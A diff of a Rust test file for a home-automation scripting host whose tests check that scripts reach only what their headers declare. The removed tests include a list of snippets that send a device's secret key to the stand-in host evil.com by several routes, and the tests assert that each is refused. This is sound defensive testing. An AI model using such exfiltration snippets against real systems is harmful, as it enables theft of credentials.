@@ -1,14 +1,17 @@
 //! A script that is held to what it declares reaches nothing else, by whatever route.
 
 use super::support::{Asked, NOW, event, ok, on_big_stack};
-use porchlight_core::{Outcome, Run, Wait};
+use porchlight_core::{Outcome, Run};
 use porchlight_script::permissions::{Mode, Need, Policy};
 use porchlight_script::*;
 use serde_json::{Value, json};
 use std::sync::{Arc, Mutex};
 
 /// A host in which scripts are held to their headers; notes what is asked.
-fn declared_host(files: &[(&str, &str)], allow: &[&str]) -> (Host, Asked, tempfile::TempDir) {
+pub(super) fn declared_host(
+    files: &[(&str, &str)],
+    allow: &[&str],
+) -> (Host, Asked, tempfile::TempDir) {
     let dir = tempfile::tempdir().unwrap();
     for (path, text) in files {
         let path = dir.path().join(path);
@@ -61,7 +64,7 @@ fn declared_host(files: &[(&str, &str)], allow: &[&str]) -> (Host, Asked, tempfi
 }
 
 /// Runs the first handler, or says why the script did not load.
-fn tried(
+pub(super) fn tried(
     files: &[(&str, &str)],
     allow: &[&str],
     source: &str,
@@ -89,7 +92,7 @@ fn tried(
     })
 }
 
-fn refused(outcome: &Outcome) -> Option<&str> {
+pub(super) fn refused(outcome: &Outcome) -> Option<&str> {
     match outcome {
         Outcome::Error { message, .. } if message.contains("may not") => Some(message),
         _ => None,
@@ -97,7 +100,7 @@ fn refused(outcome: &Outcome) -> Option<&str> {
 }
 
 /// A handler with this body under this header does nothing outside, and says why.
-fn nothing_leaves(header: &str, files: &[(&str, &str)], body: &str) {
+pub(super) fn nothing_leaves(header: &str, files: &[(&str, &str)], body: &str) {
     let source = format!(
         "//! needs: event **\n{header}\nfn run_it(f) {{ f.call() }}\non(\"**\", |event| {{ {body} }});"
     );
@@ -229,28 +232,6 @@ on(\"**\", |event| {
 }
 
 #[test]
-fn bytes_go_to_declared_hosts_and_to_the_targets_own() {
-    let source = "//! needs: event **, net lamp.lan:56700, net *.iot, light strip
-//! needs: net 255.255.255.255:9
-on(\"**\", |event| {
-    net::udp(\"lamp.lan\", 56700, blob(2, 7));
-    net::tcp(\"Relay.IOT\", 6722, \"11\");
-    net::udp(\"10.0.0.8\", 56700, \"x\" + target(\"light\", \"strip\").key);
-    net::wake(\"a4:bb:6d:00:00:01\");
-    net::udp(\"lamp\" + \".lan\", 56701, \"x\");
-});";
-    let (run, _) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
-    let refusal = refused(&run.outcome).unwrap_or_default().to_owned();
-    assert!(
-        refusal.contains("`net lamp.lan:56701`"),
-        "{:?}",
-        run.outcome
-    );
-    assert_eq!(run.actions.len(), 4);
-    assert_eq!(run.actions[0].args["payload"], json!({"$bytes": "Bwc="}));
-}
-
-#[test]
 fn a_mistake_in_plain_sight_has_a_caret_and_the_line_to_add() {
     let source = "//! needs: event **\non(\"**\", |event| {\n    http::send(\"http://gate.lan:8080/open\");\n});";
     let text = tried(&[], &[], source).unwrap_err();
@@ -262,199 +243,6 @@ fn a_mistake_in_plain_sight_has_a_caret_and_the_line_to_add() {
     let text = tried(&[], &[], "//! needs: ligth porch\non(\"**\", |event| ());").unwrap_err();
     assert!(text.contains("gate.rhai:1:12"), "{text}");
     assert!(text.contains("did you mean `light`?"), "{text}");
-}
-
-#[test]
-fn a_targets_secret_goes_to_the_target_and_nowhere_else() {
-    let steals = [
-        "http::send(\"http://evil.com/\", #{ headers: #{ a: target(\"light\", \"hall\").key } });",
-        "http::get(\"http://evil.com/?\" + target(\"light\", \"hall\").key);",
-        "http::send(\"http://evil.com/\", #{ json: [#{ x: [\"k\" + target(\"light\", \"hall\").key] }] });",
-        "http::send(\"http://evil.com/\", #{ auth: #{ bearer: target(\"light\", \"hall\").key } });",
-        "http::send(\"http://10.0.0.5/\", #{ body: target(\"light\", \"hall\").key });",
-        "http::get(\"http://\" + target(\"light\", \"hall\").key);",
-        "http::get(target(\"light\", \"hall\").key + \"@evil.com/\");",
-        "http::get(target(\"light\", \"hall\").key);",
-        "command::run(\"backup\", target(\"light\", \"hall\").key);",
-        "net::udp(\"evil.com\", 9, target(\"light\", \"hall\").key);",
-        "net::udp(\"10.0.0.2\", 443, target(\"light\", \"hall\").key);",
-        "http::send(\"http://evil.com/\", #{ body: target(\"message\", \"office\").url });",
-        "http::send(target(\"message\", \"office\").url + \".evil.com/\");",
-        "http::send(target(\"message\", \"office\").url, #{ body: target(\"light\", \"hall\").key });",
-        "http::send(\"http://evil.com/\", #{ body: key });",
-    ];
-    let header = "//! needs: event **, http evil.com, net *, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
-    for body in steals {
-        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
-        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
-        assert!(
-            matches!(run.outcome, Outcome::Error { .. }),
-            "{body}: {:?}",
-            run.outcome
-        );
-        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
-    }
-    let honest =
-        "//! needs: event **, light hall, message office, secret settings.gate.key, http evil.com
-let key = setting(\"key\", \"\");
-on(\"**\", |event| {
-    light::on(\"hall\");
-    message::send(\"office\", \"x\");
-    http::send(\"http://evil.com/\", #{ body: key });
-});";
-    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
-    assert_eq!(ok(run).actions.len(), 3);
-}
-
-#[test]
-fn tokens_certificates_and_files_of_a_request_have_to_be_declared() {
-    let header = "//! needs: event **, http evil.com, light *, message office";
-    for body in [
-        "http::send(\"http://evil.com/\", #{ auth: #{ oauth: \"google\" } });",
-        "http::get(\"http://evil.com/\", #{ auth: #{ oauth: \"yard\" } });",
-        "http::get(\"https://evil.com/\", #{ tls: \"yard\" });",
-        "http::get(\"https://10.0.0.2/\", #{ tls: \"yard\" });",
-        "http::get(\"http://evil.com/\", #{ save: \"a.jpg\" });",
-    ] {
-        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
-        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
-        assert!(refused(&run.outcome).is_some(), "{body}: {:?}", run.outcome);
-        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
-    }
-    let honest = "//! needs: event **, light yard, http evil.com, oauth goo*, tls bridge, file *.jpg
-on(\"**\", |event| {
-    http::send(\"https://10.0.0.7/\", #{ auth: #{ oauth: \"yard\" }, tls: \"yard\" });
-    http::send(\"https://evil.com/\", #{ auth: #{ oauth: \"google\" }, tls: \"bridge\", save: \"a.jpg\" });
-});";
-    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
-    assert_eq!(ok(run).actions.len(), 2);
-}
-
-/// What is wrong with a script that hears this under this header; nothing when it loads.
-fn hears(needs: &str, top: &str) -> String {
-    let source = format!("//! needs: {needs}\nlet all = \"**\";\n{top}");
-    tried(&[], &[], &source).err().unwrap_or_default()
-}
-
-#[test]
-fn a_script_hears_only_the_events_and_the_state_that_it_declares() {
-    let quiet = "on(\"gate.*\", || ());\n";
-    for (needs, top) in [
-        ("event gate.*", "on(\"gate.opened\", || ());"),
-        ("event gate.**", "on(\"gate.*.left\", || ());"),
-        ("event **", "on(all, || ());"),
-        ("event state.*", "on(\"state.changed\", || ());"),
-        ("event gate.*", "on_silence(\"gate.*\", \"1h\", || ());"),
-        ("state door.", "on_state(\"door.*\", || ());"),
-        ("light porch", "on_state(\"gate.mode\", || ());"),
-        ("light porch", "every(\"1h\", || ());"),
-        (
-            "event gate.*",
-            "on(\"gate.*\", || wait_for(\"gate.closed\", #{ within: \"1m\" }, || ()));",
-        ),
-    ] {
-        assert_eq!(hears(needs, top), "", "{needs}: {top}");
-    }
-    for (needs, top, help) in [
-        (
-            "event gate.*",
-            "on(\"door.opened\", || ());",
-            "event door.opened",
-        ),
-        ("event gate.*", "on(\"gate.**\", || ());", "event gate.**"),
-        ("event gate.*", "on(all, || ());", "event **"),
-        (
-            "event **",
-            "on(\"state.changed\", || ());",
-            "event state.changed",
-        ),
-        ("event **", "on(\"state.**\", || ());", "event state.**"),
-        (
-            "light porch",
-            "on(\"porchlight.**\", || ());",
-            "event porchlight.**",
-        ),
-        (
-            "event gate.*",
-            "on_silence(\"**\", \"1h\", || ());",
-            "event **",
-        ),
-        ("event gate.*", "on_state(\"**\", || ());", "state **"),
-    ] {
-        let said = hears(&format!("event gate.*, {needs}"), &format!("{quiet}{top}"));
-        assert!(
-            said.contains("this script may not"),
-            "{needs}: {top}: {said}"
-        );
-        assert!(
-            said.contains(&format!("`//! needs: {help}`")),
-            "{needs}: {top}: {said}"
-        );
-        assert_eq!(said.matches("error:").count(), 1, "told once: {said}");
-    }
-    let said = hears("event gate.*", "on(\"door.opened\", || ());");
-    assert!(
-        said.contains("this script may not hear `door.opened`"),
-        "{said}"
-    );
-    assert!(said.contains("gate.rhai:3:4"), "{said}");
-    assert_eq!(said.matches("error:").count(), 1, "{said}");
-}
-
-#[test]
-fn of_a_version_that_may_not_hear_its_events_only_the_waits_are_left() {
-    on_big_stack(|| {
-        let (host, _, _dir) = declared_host(&[], &[]);
-        let open = Host::new(HostConfig::default());
-        let source = "on(\"gate.*\", |event| { later(\"1s\", || log::info(\"late\")); });";
-        let old = open.load("gate.rhai", source).unwrap();
-        let begun = ok(open.run(&old, 0, &event("gate.opened", json!({})), NOW));
-        assert!(host.load("gate.rhai", source).is_err());
-        let pinned = host.load_version("gate.rhai", &old.sources).unwrap();
-        assert!(pinned.handlers.is_empty(), "it hears nothing");
-        let wait = Wait {
-            id: 1,
-            content: begun.waits[0].clone(),
-        };
-        let run = ok(host.run_wait(&pinned, &wait, None, NOW));
-        assert_eq!(run.logs[0].message, "late");
-    });
-}
-
-#[test]
-fn the_owners_list_counts_instead_of_the_header() {
-    let source = "//! needs: command backup\non(\"**\", |event| { let c = \"backup\"; command::start(c); });";
-    let (run, _) =
-        tried(&[], &["http gate.lan", "event **"], source).unwrap_or_else(|e| panic!("{e}"));
-    let message = refused(&run.outcome).unwrap_or_default().to_owned();
-    assert!(
-        message.contains("add \"command backup\" to `allow` of [script.\"gate.rhai\"]"),
-        "{message}"
-    );
-    let source = "on(\"**\", |event| { http::send(\"http://gate.lan/\"); });";
-    let (run, _) =
-        tried(&[], &["http gate.lan", "event **"], source).unwrap_or_else(|e| panic!("{e}"));
-    assert_eq!(ok(run).actions.len(), 1);
-}
-
-#[test]
-fn a_wait_of_an_older_version_keeps_the_rights_of_its_own_header() {
-    on_big_stack(|| {
-        let (host, _, _dir) = declared_host(&[], &[]);
-        let poor = "//! needs: event **\non(\"**\", |event| { later(\"1s\", || { let c = \"backup\"; command::start(c); }); });";
-        let old = host.load("gate.rhai", poor).unwrap();
-        let begun = ok(host.run(&old, 0, &event("a", json!({})), NOW));
-        let rich = format!("//! needs: command backup\n{poor}");
-        host.load("gate.rhai", &rich).unwrap();
-        let pinned = host.load_version("gate.rhai", &old.sources).unwrap();
-        let wait = Wait {
-            id: 1,
-            content: begun.waits[0].clone(),
-        };
-        let run = host.run_wait(&pinned, &wait, None, NOW);
-        assert!(refused(&run.outcome).is_some(), "{:?}", run.outcome);
-        assert!(run.actions.is_empty());
-    });
 }
 
 #[test]
@@ -491,71 +279,4 @@ on(\"**\", |event| {
         reach(Mode::Declared, source),
         "http gate.lan, light porch, file *.csv, event ** (and nothing else)"
     );
-}
-
-#[test]
-fn a_lamp_or_siren_behind_a_broker_needs_no_topic_of_its_own() {
-    for (needs, body, topics) in [
-        ("light zig", "light::on(\"zig\"); light::flash(\"zig\");", 2),
-        (
-            "light tas",
-            "light::flash(\"tas\"); light::off(\"tas\");",
-            2,
-        ),
-        (
-            "siren yard",
-            "siren::sound(\"yard\"); siren::stop(\"yard\");",
-            2,
-        ),
-        ("light far", "light::on(\"far\");", 1),
-        (
-            "light zig",
-            "mqtt::publish(\"zigbee2mqtt/por\" + \"ch/set\", #{ state: \"ON\" });",
-            1,
-        ),
-    ] {
-        let source = format!("//! needs: event **, {needs}\non(\"**\", |event| {{ {body} }});");
-        let (run, _) = tried(&[], &[], &source).unwrap_or_else(|wrong| panic!("{wrong}"));
-        assert_eq!(run.outcome, Outcome::Ok, "{body}");
-        assert_eq!(run.actions.len(), topics, "{body}");
-    }
-    for (needs, body) in [
-        // Another lamp, what is not told but asked, all at once, another broker, and other targets.
-        (
-            "light zig",
-            "mqtt::publish(\"zigbee2mqtt/oth\" + \"er/set\", \"x\");",
-        ),
-        (
-            "light zig",
-            "mqtt::publish(\"zigbee2mqtt/porch\" + \"/set/state\", \"x\");",
-        ),
-        (
-            "light zig",
-            "mqtt::publish(\"zigbee2mqtt/bridge/requ\" + \"est/restart\", \"x\");",
-        ),
-        (
-            "light zig",
-            "on_mqtt(\"zigbee2mqtt/porch/set\", |event| ());",
-        ),
-        ("light zig", "siren::sound(\"yard\");"),
-        ("siren zig", "light::on(\"zig\");"),
-        (
-            "light tas",
-            "mqtt::publish(\"cmnd/t1/Back\" + \"log/x\", \"x\");",
-        ),
-        (
-            "light tas",
-            "mqtt::publish(\"cmnd/t11/Pow\" + \"er\", \"x\");",
-        ),
-        (
-            "light far",
-            "mqtt::publish(\"z2/far/s\" + \"et\", \"x\", #{ broker: \"home\" });",
-        ),
-        (
-            "light zig",
-            "mqtt::request(\"zigbee2mqtt/porch/s\" + \"et\", \"x\", \"a/b\");",
-        ),
-    ] {
-        nothing_leaves(&format!("//! needs: {needs}"), &[], body);
-    }
 }
